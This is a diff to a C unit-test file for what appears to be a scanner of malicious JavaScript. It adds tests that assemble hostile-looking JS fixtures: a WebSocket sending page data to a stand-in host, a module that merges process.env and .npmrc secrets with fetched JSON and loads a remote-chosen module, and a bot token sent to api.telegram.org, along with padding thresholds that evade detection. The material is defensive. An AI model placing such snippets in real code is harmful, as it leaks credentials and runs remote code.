@@ -474,11 +474,17 @@ static void test_huge(void **state)
 	assert_true(env_files(CONTENT_HUGE, CONTENT_AROUND + 4096, CONTENT_AROUND_TRIES + 1));
 }
 
-static uint32_t pool(size_t before, const char *jobs)
+#define HOST_KEY_PLACES 64 /* of host.c */
+#define HOST_KEY_VALUE	96
+#define JOB_AROUND 1024 /* of behave_net.c */
+
+static uint32_t pool(size_t before, size_t between, const char *jobs)
 {
 	begin();
 	filler(before);
 	buf_text(&source, T("const WebSocket = require('ws');\nconst page = { login: 1, submit: 2, nonce: 3, blob: 4"));
+	for (size_t i = 0; i < between; i++)
+		buf_char(&source, ' ');
 	buf_printf(&source, "%s };\nconst s = new WebSocket('wss://a.example.com/');\n", jobs);
 	buf_text(&source, T("s.on('open', () => s.send(JSON.stringify(page)));\nfetch('https://a.example.com/b');\n"));
 	scanned("a.js");
@@ -488,9 +494,55 @@ static uint32_t pool(size_t before, const char *jobs)
 static void test_pool_words(void **state)
 {
 	(void)state;
-	assert_true(pool(CONTENT_BUNDLE - 4096, ""));
-	assert_false(pool(CONTENT_BUNDLE, ""));
-	assert_true(pool(CONTENT_BUNDLE, ", job_id: 5"));
+	assert_true(pool(CONTENT_BUNDLE - 4096, 0, ""));
+	assert_false(pool(CONTENT_BUNDLE, 0, ""));
+	assert_true(pool(CONTENT_BUNDLE, 0, ", job_id: 5"));
+	/* submit: 2, nonce: 3, blob: 4, and then */
+	assert_true(pool(CONTENT_BUNDLE, JOB_AROUND - 32, ", job_id: 5"));
+	assert_false(pool(CONTENT_BUNDLE, JOB_AROUND, ", job_id: 5"));
+}
+
+/* A module by a name out of an object that is given all there is. */
+static uint32_t everything(size_t before)
+{
+	begin();
+	filler(before);
+	buf_text(&source, T("const fs = require('fs');\nmodule.exports = async (o) => {\n"
+			    "const all = Object.assign({}, o, process.env, JSON.parse(fs.readFileSync('.npmrc')), await (await fetch(o.at)).json());\n"
+			    "return require(all.entry);\n};\n"));
+	scanned("a.js");
+	return acts_of(BEHAVE_EXECUTE, ACT_FETCHED_ARG);
+}
+
+static void test_everything(void **state)
+{
+	(void)state;
+	assert_true(everything(CONTENT_BUNDLE - 4096));
+	assert_false(everything(CONTENT_BUNDLE));
+}
+
+/* The key of a bot in a variable that is named so often, and declared so far away. */
+static uint32_t key_asked(unsigned named, size_t blanks)
+{
+	begin();
+	for (unsigned i = 0; i < named; i++)
+		buf_text(&source, T("use(token);\n"));
+	buf_text(&source, T("const token ="));
+	for (size_t i = 0; i < blanks; i++)
+		buf_char(&source, ' ');
+	buf_text(&source, T("process.env.BOT_TOKEN;\nfetch(`https://api.telegram.org/bot${token}/getMe`, { method: 'POST', body: 'x' });\n"));
+	scanned("a.js");
+	return acts_of(BEHAVE_SEND, ACT_COLLECTOR_HOST);
+}
+
+static void test_key_asked(void **state)
+{
+	(void)state;
+	assert_false(key_asked(0, 1));
+	assert_false(key_asked(HOST_KEY_PLACES - 2, 1)); /* its declaration and its use are two */
+	assert_true(key_asked(HOST_KEY_PLACES - 1, 1));
+	assert_false(key_asked(0, 60));
+	assert_true(key_asked(0, HOST_KEY_VALUE));
 }
 
 static bool give(void *ctx, uint32_t index, struct buf *out, struct err *e)
@@ -552,6 +604,7 @@ int main(void)
 		cmocka_unit_test(test_matches),	   cmocka_unit_test(test_path),
 		cmocka_unit_test(test_bundle),	   cmocka_unit_test(test_lookers),
 		cmocka_unit_test(test_huge),	   cmocka_unit_test(test_pool_words),
+		cmocka_unit_test(test_everything), cmocka_unit_test(test_key_asked),
 	};
 
 	source = BUF(16u << 20);
